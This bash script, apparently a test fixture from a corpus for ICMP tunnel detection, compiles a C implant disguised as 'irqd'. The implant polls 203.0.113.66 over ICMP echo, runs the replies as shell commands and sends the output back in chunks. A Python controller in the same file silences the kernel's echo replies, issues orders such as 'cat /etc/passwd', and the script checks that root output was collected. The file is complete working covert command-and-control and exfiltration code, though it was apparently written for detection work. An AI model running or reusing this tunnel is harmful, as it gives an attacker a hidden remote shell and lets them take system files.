#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=icmp-tunnel half=report tool=gcc,dash far=out seconds=50 parts=dns before=yes
# A small program asks by echo for orders, has a shell do what stands in the answers, and sends what that says in more echo, 900 bytes in each; the far end's kernel is silent.
if [ "$1" = before ]; then
	cat >"$LAB/i.c" <<'END'
#include <arpa/inet.h>
#include <netinet/ip_icmp.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>
static unsigned short sum(const unsigned char *d, size_t n)
{
	unsigned long s = 0;
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (unsigned long)d[i] << 8 | d[i + 1];
	if (n % 2)
		s += (unsigned long)d[n - 1] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons((unsigned short)~s);
}
int main(void)
{
	static char out[40000];
	unsigned char p[2000], in[2000];
	struct sockaddr_in to = {.sin_family = AF_INET};
	struct timeval wait = {.tv_usec = 300000};
	size_t had = 0, at = 0;
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	inet_pton(AF_INET, "203.0.113.66", &to.sin_addr);
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
	for (unsigned short seq = 0; seq < 150; seq++) {
		struct icmphdr h = {.type = ICMP_ECHO, .un.echo = {.id = htons(77), .sequence = htons(seq)}};
		size_t n = had - at < 900 ? had - at : 900;
		ssize_t got;
		memcpy(p + sizeof(h), out + at, n);
		memcpy(p, &h, sizeof(h));
		h.checksum = sum(p, sizeof(h) + n);
		memcpy(p, &h, sizeof(h));
		sendto(s, p, sizeof(h) + n, 0, (struct sockaddr *)&to, sizeof(to));
		at += n;
		got = recv(s, in, sizeof(in) - 1, 0);
		if (got > 28 && in[20] == ICMP_ECHOREPLY && at == had) {
			FILE *f;
			in[got] = 0;
			f = popen((char *)in + 28, "r");
			had = f ? fread(out, 1, sizeof(out), f) : 0;
			at = 0;
			if (f)
				pclose(f);
		}
		usleep(150000);
	}
	return 0;
}
END
	exec gcc -O1 -o "$LAB/irqd" "$LAB/i.c"
fi
if [ "$1" = out ]; then echo 1 >/proc/sys/net/ipv4/icmp_echo_ignore_all; exec timeout 70 python3 -c 'import socket, sys
def checked(d):
    s = sum(int.from_bytes(d[i:i + 2].ljust(2, b"\0"), "big") for i in range(0, len(d), 2))
    while s >> 16: s = (s & 65535) + (s >> 16)
    return d[:2] + (65535 - s).to_bytes(2, "big") + d[4:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); f = open(sys.argv[1], "ab", 0); orders = [b"id", b"cat /etc/passwd", b"ls -lR /etc/init.d /etc/default", b"uname -a", b"ls -l /usr/sbin", b"cat /etc/services"]; idle = 0
while True:
    d, who = s.recvfrom(4000); d = d[20:]
    if d[0] != 8: continue
    f.write(d[8:]); idle = idle + 1 if len(d) == 8 else 0
    order = orders.pop(0) if idle >= 3 and orders else b""
    if order: idle = 0
    s.sendto(checked(b"\0\0\0\0" + d[4:8] + order), who)' "$LAB/heard"; fi
sleep 2; timeout 44 "$LAB/irqd"; grep -q uid=0 "$LAB/heard" && [ "$(stat -c %s "$LAB/heard")" -gt 20000 ]
